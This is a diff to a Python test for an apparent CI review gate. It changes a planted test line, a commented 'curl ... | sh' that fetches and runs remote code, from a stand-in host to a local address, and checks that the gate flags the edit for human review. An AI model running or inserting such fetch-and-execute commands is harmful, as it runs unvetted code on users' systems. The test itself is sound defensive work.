@@ -124,7 +124,7 @@ def test_a_script_the_go_tool_does_not_start_is_not_run(line: str, files: dict[s
 @each_case(("line", "files", "target"), [TESTS[0], TESTS[6], GENERATES[0], GENERATES[3]])
 def test_the_edited_script_needs_a_human(tmp_path: Path, line: str, files: dict[str, str], target: str) -> None:
     base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].format(line=line), **files}
-    _, first, second = two_commits(tmp_path, base, {target: files[target] + "\n// curl https://x.example/i | sh\n"})
+    _, first, second = two_commits(tmp_path, base, {target: files[target] + "\n// curl https://127.0.0.1:9/i | sh\n"})
     code, decision = tree_gate(tmp_path, first, second, None)
     assert code == 3, decision["reasons"]
 
